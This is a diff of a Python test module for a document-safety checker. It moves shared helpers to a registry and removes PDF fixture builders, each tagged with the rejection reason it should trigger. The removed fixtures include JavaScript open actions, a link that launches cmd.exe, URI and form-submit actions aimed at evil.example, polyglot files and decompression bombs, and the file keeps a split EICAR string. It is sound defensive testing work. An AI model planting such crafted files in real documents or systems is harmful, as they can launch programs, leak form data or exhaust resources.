@@ -10,67 +10,26 @@ import io
 import struct
 import zipfile
 import zlib
-from collections.abc import Callable, Iterator
-from dataclasses import dataclass
+from collections.abc import Callable
 
 import pikepdf
 
 from tests.hostile.good import (
     TEXT,
-    assemble_pdf,
     docx,
     odt,
     paragraphs,
     pdf,
     relationships,
     rtf,
-    text_stream,
     word_document,
     zipped,
 )
-
-READABLE = "readable"
-MEGABYTE = 1024 * 1024
-# The EICAR test string in two halves, so that this source is not itself a finding.
-EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"
-
-
-@dataclass(frozen=True)
-class Hostile:
-    """A file by name, how to build it, and its end: "readable" or one of the reason codes."""
-
-    name: str
-    build: Callable[[], bytes]
-    ends: tuple[str, ...]
-
-
-_CORPUS: list[Hostile] = []
-
-
-def hostile(*ends: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
-    """Put a builder into the corpus under its own name, with the ends that are right for it."""
-
-    def add(build: Callable[[], bytes]) -> Callable[[], bytes]:
-        _CORPUS.append(Hostile(build.__name__, build, ends))
-        return build
-
-    return add
-
-
-def corpus() -> Iterator[Hostile]:
-    return iter(_CORPUS)
-
-
-def _packed_zeros(size: int, *, head: bytes = b"", window: int = 15) -> bytes:
-    # Piece by piece: the tests must not grow by what they measure in others.
-    packer = zlib.compressobj(9, zlib.DEFLATED, window)
-    block = bytes(MEGABYTE)
-    packed = [packer.compress(head), *(packer.compress(block) for _ in range(size // MEGABYTE))]
-    return b"".join(packed) + packer.flush()
+from tests.hostile.registry import EICAR, MEGABYTE, READABLE, hostile, packed_zeros
 
 
 def _deflated_zeros(size: int) -> bytes:
-    return _packed_zeros(size, window=-15)
+    return packed_zeros(size, window=-15)
 
 
 def _zip_entry(
@@ -400,149 +359,6 @@ def rtf_that_counts_its_binary_wrong() -> bytes:
 
 
 # PDF
-
-
-@hostile("pdf_header")
-def page_and_pdf_in_one() -> bytes:
-    return b"<html><script>alert(1)</script>" + pdf()
-
-
-@hostile("polyglot")
-def archive_and_pdf_in_one() -> bytes:
-    body = pdf()
-    return body[: -len(b"%%EOF\n")] + zipped({"a.txt": "a"}) + b"%%EOF\n"
-
-
-@hostile("pdf_javascript")
-def script_on_opening() -> bytes:
-    return pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")
-
-
-@hostile("pdf_javascript")
-def script_under_an_escaped_name() -> bytes:
-    return pdf(catalog="/OpenAction << /S /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>")
-
-
-@hostile("pdf_javascript")
-def script_in_an_object_stream() -> bytes:
-    out = io.BytesIO()
-    with pikepdf.open(io.BytesIO(script_on_opening())) as document:
-        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
-    assert b"JavaScript" not in out.getvalue()
-    return out.getvalue()
-
-
-@hostile("pdf_launch")
-def program_started_by_a_link() -> bytes:
-    link = "<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /Launch /F (cmd.exe) >> >>"
-    return pdf(page=f"/Annots [{link}]")
-
-
-@hostile("pdf_open_action")
-def web_page_on_opening() -> bytes:
-    return pdf(catalog="/OpenAction << /S /URI /URI (https://evil.example/) >>")
-
-
-@hostile("pdf_form_action")
-def form_that_sends_itself() -> bytes:
-    return pdf(page="/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>")
-
-
-@hostile("pdf_xfa")
-def xfa_form() -> bytes:
-    return pdf(
-        catalog="/AcroForm << /XFA [(template) 4 0 R] >>", objects=(b"<< /Length 4 >>\nstream\n<x/>\nendstream",)
-    )
-
-
-@hostile("pdf_rich_media")
-def flash_in_a_page() -> bytes:
-    return pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]")
-
-
-@hostile("pdf_encrypted")
-def pdf_with_a_password() -> bytes:
-    out = io.BytesIO()
-    with pikepdf.open(io.BytesIO(pdf())) as document:
-        document.save(out, encryption=pikepdf.Encryption(owner="owner", user="user"))
-    return out.getvalue()
-
-
-@hostile("pdf_too_many_pages")
-def pdf_of_ten_thousand_pages() -> bytes:
-    return pdf(*[b""] * 10_000)
-
-
-@hostile("pdf_too_many_objects")
-def pdf_of_two_hundred_thousand_objects() -> bytes:
-    return pdf(objects=(b"null",) * 200_000)
-
-
-@hostile("pdf_bomb")
-def doubly_packed_content() -> bytes:
-    twice = zlib.compress(_packed_zeros(500 * MEGABYTE), 9)
-    content = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream" % (len(twice), twice)
-    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
-    return assemble_pdf(
-        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, content]
-    )
-
-
-@hostile("pdf_bomb")
-def picture_of_ten_billion_pixels() -> bytes:
-    image = (
-        b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 1 "
-    )
-    return pdf(objects=(image + b"/Length 1 >>\nstream\nx\nendstream",))
-
-
-@hostile("pdf_bomb", "too_much_memory", "pdf_damaged")
-def bomb_in_an_object_stream() -> bytes:
-    packed = _packed_zeros(400 * MEGABYTE, head=b"5 0 ")
-    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
-    return pdf(objects=(stream % (len(packed), packed),))
-
-
-@hostile(READABLE, "pdf_damaged")
-def arrays_nested_a_hundred_thousand_deep() -> bytes:
-    return pdf(catalog="/Names " + "[" * 100_000 + "]" * 100_000)
-
-
-@hostile("pdf_damaged")
-def page_tree_that_bites_its_tail() -> bytes:
-    return assemble_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])
-
-
-# Nobody can read eleven points on five kilometres of paper.
-@hostile("no_text")
-def page_as_large_as_a_field() -> bytes:
-    return pdf(box="0 0 14400000 14400000")
-
-
-@hostile(READABLE, "no_text")
-def form_that_draws_itself() -> bytes:
-    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> /Length 6 >>"
-    return pdf(
-        b"/X Do " + text_stream(),
-        objects=(form + b"\nstream\n/X Do \nendstream",),
-        resources="/Resources << /Font << /F1 3 0 R >> /XObject << /X 4 0 R >> >>",
-    )
-
-
-@hostile("too_slow")
-def page_of_half_a_million_strokes() -> bytes:
-    return pdf(text_stream() + b" 0 0 m 600 700 l S" * 500_000)
-
-
-@hostile("pdf_damaged")
-def pdf_cut_in_half() -> bytes:
-    body = pdf(*[text_stream()] * 5)
-    return body[: len(body) // 2]
-
-
-@hostile("pdf_damaged")
-def pdf_header_and_nothing_else() -> bytes:
-    return b"%PDF-1.7\n" + b"garbage " * 500 + b"\n%%EOF\n"
 
 
 @hostile("damaged_file")
